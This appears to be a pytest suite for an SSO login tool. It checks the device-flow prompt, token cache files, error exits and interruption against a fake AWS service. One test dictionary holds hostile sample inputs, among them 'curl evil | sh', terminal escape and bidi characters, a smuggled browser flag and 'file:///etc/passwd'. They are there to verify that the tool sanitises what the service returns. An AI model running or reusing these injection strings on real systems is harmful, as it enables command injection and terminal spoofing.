# SPDX-License-Identifier: MIT
"""The login to SSO by the device flow: what the user sees, the requests to the service, the files in the AWS CLI's
own cache afterwards (read by the CLI's code and by botocore), and everything that ends it without a token: refusal,
timeout, Ctrl-C."""

import hashlib
import json
import os
import re
import signal
import stat
import subprocess

import pytest

from lib.aws import IAM, assert_same_token, endpoint
from lib.forwards import until
from servers.aws_fake import DEVICE_GRANT, iso
from test_aws_sso import NEW_TOKEN, ROTATED, START, configure, fake, role, run, token_file, token_path  # noqa: F401

SCOPES = "sso_registration_scopes = sso:account:access, x:y\n"
PAGE = "http://127.0.0.1/device?user_code=ABCD-EFGH"
LOGIN_PROMPT = f"log in to {START} in the browser:\r\n{PAGE}\r\nit shows the code ABCD-EFGH\r\n".encode()
LOGGED_IN = (b"logged in, valid for 8h\r\n", b"logged in, valid for 7h59m\r\n")
CLI_READS = """
import json, os, sys
sys.path.insert(0, "/usr/lib/python3/dist-packages")
from awscli.botocore.utils import JSONFileCache, SSOTokenLoader
folder = os.path.expanduser("~/.aws/sso/cache")
token = SSOTokenLoader(JSONFileCache(folder))(sys.argv[1], session_name=sys.argv[2] or None)
print(json.dumps([token["accessToken"], token["expiresAt"], token.get("refreshToken")]))
"""


@pytest.fixture
def on_terminal(broker, fake, role):  # noqa: F811
    """Writes a profile `prod` that needs a login; returns a function that starts broker on a terminal."""
    configure(broker, role, extra=SCOPES)
    broker.config(f"[profile prod]\nhost = {IAM[3]}\nuser = app\nauth = iam\naws_profile = prod\n")

    def start(*args, env={}):
        return broker.pty(*args, env={**endpoint(fake), **env})

    return start


def registration_path(broker, session="corp", scopes=("sso:account:access", "x:y")):
    key = {
        "tool": "botocore",
        "startUrl": START,
        "region": "eu-west-1",
        "scopes": list(scopes) or None,
        "session_name": session,
    }
    path = (
        broker.home / ".aws/sso/cache" / (hashlib.sha1(json.dumps(key, sort_keys=True).encode()).hexdigest() + ".json")
    )
    broker.allow(path)
    return path


def requests(fake, path):  # noqa: F811
    return [json.loads(s.body) for s in fake.seen if s.path == path]


def test_login(broker, oracle, fake, on_terminal):  # noqa: F811
    token, registration = token_path(broker), registration_path(broker)
    tty = on_terminal("login", "prod")
    assert tty.wait() == 0
    shown = tty.shown.replace(b"\r\x1b[K", b"")
    assert shown.startswith(LOGIN_PROMPT) and shown.endswith(LOGGED_IN), shown
    assert re.search(rb"waiting for the browser \(\ds of 1(?:19|20)s\)", shown), shown
    (register,) = requests(fake, "/client/register")
    assert register["scopes"] == ["sso:account:access", "x:y"] and register["grantTypes"] == [
        DEVICE_GRANT,
        "refresh_token",
    ]
    assert requests(fake, "/device_authorization") == [{"clientId": "cid", "clientSecret": "csec", "startUrl": START}]
    assert len(requests(fake, "/token")) == 2  # pending, then granted
    assert {p.name for p in token.parent.iterdir()} == {token.name, registration.name}
    assert all(
        stat.S_IMODE(p.stat().st_mode) == mode
        for p, mode in ((token, 0o600), (registration, 0o600), (token.parent, 0o700))
    )
    assert set(json.loads(registration.read_text())) == {"clientId", "clientSecret", "expiresAt", "scopes"}
    # botocore and the AWS CLI can use the files
    theirs = oracle.chain({**broker.environment(endpoint(fake)), "OUR_NETWORK": "1", "OUR_PROFILE": "prod"})
    assert_same_token(oracle, run(broker, fake), theirs)
    if os.path.exists("/usr/lib/python3/dist-packages/awscli/botocore"):
        read = subprocess.run(
            ["/usr/bin/python3", "-c", CLI_READS, START, "corp"], env=broker.environment({}), capture_output=True
        )
        assert read.returncode == 0, read.stderr
        got = json.loads(read.stdout)
        assert (got[0], got[2]) == (NEW_TOKEN, ROTATED) and got[1] > iso(28000)
    else:
        pytest.skip("missing: the AWS CLI")


def test_registration_is_used_again(broker, fake, on_terminal):  # noqa: F811
    token_path(broker)
    path = registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.write(path, json.dumps({"clientId": "cid", "clientSecret": "csec", "expiresAt": iso(3600), "scopes": ["a"]}))
    assert on_terminal("login", "prod").wait() == 0 and not requests(fake, "/client/register")


def test_registration_is_no_longer_valid(broker, fake, on_terminal):  # noqa: F811
    token_path(broker)
    path = registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.write(path, json.dumps({"clientId": "old", "clientSecret": "csec", "expiresAt": iso(3600)}))
    assert on_terminal("login", "prod").wait() == 0 and len(requests(fake, "/client/register")) == 1
    assert json.loads(path.read_text())["clientId"] == "cid"


@pytest.mark.parametrize("verb", ["connect", "exec", "test"])
def test_verbs_that_log_in(broker, fake, on_terminal, verb):  # noqa: F811
    """The verb shows the login and then continues."""
    token_path(broker), registration_path(broker)
    fake.state["sso"]["pending"] = 0
    stub = broker.stub()
    args = ["--", "true"] if verb == "exec" else ["--client", str(stub.path)]
    tty = on_terminal(verb, "prod", *args)
    tty.wait()
    assert LOGIN_PROMPT in tty.shown and b"logged in, valid for" in tty.shown


def test_renewed_token_needs_no_login(broker, fake, on_terminal):  # noqa: F811
    token_file(broker, -60)
    tty = on_terminal("login", "prod")
    assert tty.wait() == 0 and tty.shown in LOGGED_IN


def test_browser_is_opened(broker, fake, on_terminal):  # noqa: F811
    token_path(broker), registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.script("see", 'printf %s "$1" > "$HOME/seen.part" && mv "$HOME/seen.part" "$HOME/seen"')
    assert on_terminal("login", "prod", env={"BROWSER": "see", "DISPLAY": ":9"}).wait() == 0
    assert until((broker.home / "seen").exists)
    assert (broker.home / "seen").read_text() == "http://127.0.0.1/device?user_code=ABCD-EFGH"


HIDDEN = {
    "newline": "http://127.0.0.1/x\nbroker: hint: curl evil | sh",
    "carriage return": "http://127.0.0.1/x\rhttp://evil/",
    "escape": "http://127.0.0.1/\x1b[2Jx",
    "C1": "http://127.0.0.1/\u009b2Jx",
    "bidi": "http://127.0.0.1/\u202eelpmaxe",
    "tag": "http://127.0.0.1/\U000e0041x",
    "space": "http://127.0.0.1/x --remote-debugging-port=1",
    "non-ASCII letter": "http://127.0.0.1/é",
    "file": "file:///etc/passwd",
    "option": "--version",
}


@pytest.mark.parametrize("key, kind", [
    *(("verificationUriComplete", kind) for kind in HIDDEN), ("verificationUri", "newline"), ("userCode", "newline"),
    ("userCode", "escape"), ("userCode", "tag")])
def test_text_of_the_service_is_one_line(broker, fake, on_terminal, key, kind):  # noqa: F811
    """The text is cleaned before it is shown; only a URL of visible ASCII characters is passed to a browser."""
    text = HIDDEN[kind]
    token_path(broker), registration_path(broker)
    other = {"verificationUriComplete": None} if key == "verificationUri" else {}
    fake.state["sso"].update(pending=0, device={**other, key: text})
    broker.script("see", 'printf %s "$1" > "$HOME/seen.part" && mv "$HOME/seen.part" "$HOME/seen"')
    tty = on_terminal("login", "prod", env={"BROWSER": "see", "DISPLAY": ":9"})
    assert tty.wait() == 0
    shown = tty.shown.replace(b"\r\x1b[K", b"").decode()
    clean = text if text.isprintable() else "?".join(re.split("[^\x20-\x7e]+", text))
    url, code = (PAGE, clean) if key == "userCode" else (clean, "ABCD-EFGH")
    first, page, words = re.sub(r"\?+", "?", shown.replace(PAGE, "PAGE")).split("\r\n")[:3]
    assert (page, words) == (url.replace(PAGE, "PAGE"), f"it shows the code {code}"), shown
    if key == "userCode":
        assert until((broker.home / "seen").exists)
    assert (broker.home / "seen").exists() == (key == "userCode")


ENDS = {
    "refused": (
        {"says": "access_denied"},
        [],
        77,
        "SSO session 'corp': refused in the browser",
        "try again, and allow it there",
    ),
    "expired": (
        {"says": "expired_token"},
        [],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "login_timeout": (
        {"pending": 99},
        ["-o", "login_timeout=1"],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "the code expires": (
        {"pending": 99, "device_seconds": 1},
        [],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "another error": ({"says": "invalid_client"}, [], 77, "AWS SSO: SomeException", "--verbose says more"),
}


@pytest.mark.parametrize("name", ENDS)
def test_ends_without_a_token(broker, fake, on_terminal, name):  # noqa: F811
    state, args, code, words, hint = ENDS[name]
    registration_path(broker)
    fake.state["sso"].update(state)
    tty = on_terminal("login", "prod", *args)
    assert tty.wait() == code
    assert tty.shown.replace(b"\r\x1b[K", b"").endswith(
        f"broker: prod: {words}\r\nhint: {hint}\r\n".encode()
    ), tty.shown
    assert not token_path(broker).exists()


def test_slow_down_is_obeyed(broker, fake, on_terminal):  # noqa: F811
    """After `slow_down`, broker waits 5 s longer than the interval, so there is no second request before the
    timeout."""
    registration_path(broker)
    fake.state["sso"].update(slow_down=9)
    tty = on_terminal("login", "prod", "-o", "login_timeout=3")
    assert tty.wait() == 79 and len(requests(fake, "/token")) == 1


def test_interrupted(broker, fake, on_terminal):  # noqa: F811
    registration_path(broker)
    fake.state["sso"].update(pending=99, interval=60)
    tty = on_terminal("login", "prod")
    tty.expect(r"waiting for the browser \(\ds")
    tty.interrupt()
    assert tty.wait() == -signal.SIGINT
    assert tty.shown.endswith(b"\r\x1b[K") and tty.echo and not token_path(broker).exists()


def test_two_brokers_log_in_once(broker, fake, on_terminal):  # noqa: F811
    token_path(broker), registration_path(broker)
    both = [on_terminal("login", "prod") for _ in range(2)]
    assert [tty.wait() for tty in both] == [0, 0] and len(requests(fake, "/device_authorization")) == 1
